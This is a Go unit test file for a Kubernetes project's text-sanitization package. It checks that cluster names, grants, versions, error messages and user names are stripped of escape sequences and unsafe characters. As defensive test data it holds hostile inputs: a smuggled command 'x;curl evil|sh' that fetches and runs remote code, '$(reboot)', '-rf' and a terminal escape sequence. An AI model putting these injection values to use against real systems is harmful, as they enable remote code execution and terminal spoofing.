// SPDX-License-Identifier: Apache-2.0

package plain

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/utils/ptr"

	"github.com/fairlead-dev/fairlead/apis/v1alpha1"
)

const escape = "\x1b]0;owned\x07"

func TestTheTextOfAMembershipIsSanitized(t *testing.T) {
	m := &v1alpha1.Membership{Spec: v1alpha1.MembershipSpec{
		Host:            v1alpha1.HostIdentity{UID: "u" + escape, Name: "prod\nTaking it over\n  revokes nothing"},
		NamespacePolicy: v1alpha1.NamespacesAll + escape,
		ClusterName:     "x;curl evil|sh", Grants: []string{"core", "core", "", escape + "storage", strings.Repeat("g", 400)},
	}}
	m.Status.CollectorVersion = strings.Repeat("v", 200)
	m.Status.Facts = v1alpha1.MemberFacts{KubernetesVersion: "v1.36.3" + escape + strings.Repeat("x", 100), Zones: []string{"a", "a", ""},
		OLM: []v1alpha1.OLMGeneration{"V1", "V7", "V0", "V1"}, Nodes: ptr.To(int32(-1))}
	for i := range 100 {
		m.Status.Facts.StorageClasses = append(m.Status.Facts.StorageClasses, fmt.Sprint("s", i))
	}
	Membership(m)
	if diff := cmp.Diff([]string{"core", "]0;ownedstorage"}, m.Spec.Grants[:2]); diff != "" || len(m.Spec.Grants) != 3 || len(m.Spec.Grants[2]) > maxGrant {
		t.Errorf("%s %q", diff, m.Spec.Grants)
	}
	if m.Spec.ClusterName != InvalidName || m.Spec.NamespacePolicy != "" || m.Spec.Host.Name != "prod Taking it over revokes nothing" || m.Spec.Host.UID != "u]0;owned" {
		t.Errorf("%+v", m.Spec)
	}
	facts := m.Status.Facts
	if len(facts.KubernetesVersion) > maxVersion || strings.ContainsRune(facts.KubernetesVersion, '\x1b') || len(m.Status.CollectorVersion) > maxCollectorVersion ||
		len(facts.StorageClasses) != 64 || facts.Nodes != nil {
		t.Errorf("%+v", m.Status)
	}
	if diff := cmp.Diff([]v1alpha1.OLMGeneration{v1alpha1.OLMV0, v1alpha1.OLMV1}, facts.OLM); diff != "" || len(facts.Zones) != 1 {
		t.Errorf("%s %v", diff, facts.Zones)
	}
}

func TestANameInACommandIsADNSLabel(t *testing.T) {
	for name, want := range map[string]string{"eu-1": "eu-1", "$(reboot)": InvalidName, "a b": InvalidName, "a\nb": InvalidName, "-rf": InvalidName,
		strings.Repeat("x", 64): InvalidName} {
		if got := Name(name); got != want {
			t.Errorf("%q became %q", name, got)
		}
	}
}

func TestAnErrorKeepsItsLinesAndNoControlCharacters(t *testing.T) {
	got := Error(errors.New("one\x1b[31m two\t\u202e\n  three\r"))
	if diff := cmp.Diff("one[31m two\t\n  three", got); diff != "" {
		t.Error(diff)
	}
}

func TestTheNameOfAUserCannotReadLikeAnothers(t *testing.T) {
	for name, test := range map[string]struct{ user, want string }{
		"a person":                    {"alice@example.com", "alice@example.com"},
		"an account":                  {"system:serviceaccount:argocd:controller", "system:serviceaccount:argocd:controller"},
		"an escape sequence":          {"alice" + escape, `"alice\x1b]0;owned\a"`},
		"a character without a width": {"al\u200bice", `"al\u200bice"`},
		"two spaces":                  {"alice  root", `"alice root"`},
		"a long name":                 {strings.Repeat("a", 300), `"` + strings.Repeat("a", 252) + "…"},
		"no name":                     {"", ""},
	} {
		t.Run(name, func(t *testing.T) {
			if got := User(test.user); got != test.want || User(got) != got {
				t.Errorf("got %q, then %q; want %q", got, User(got), test.want)
			}
		})
	}
}
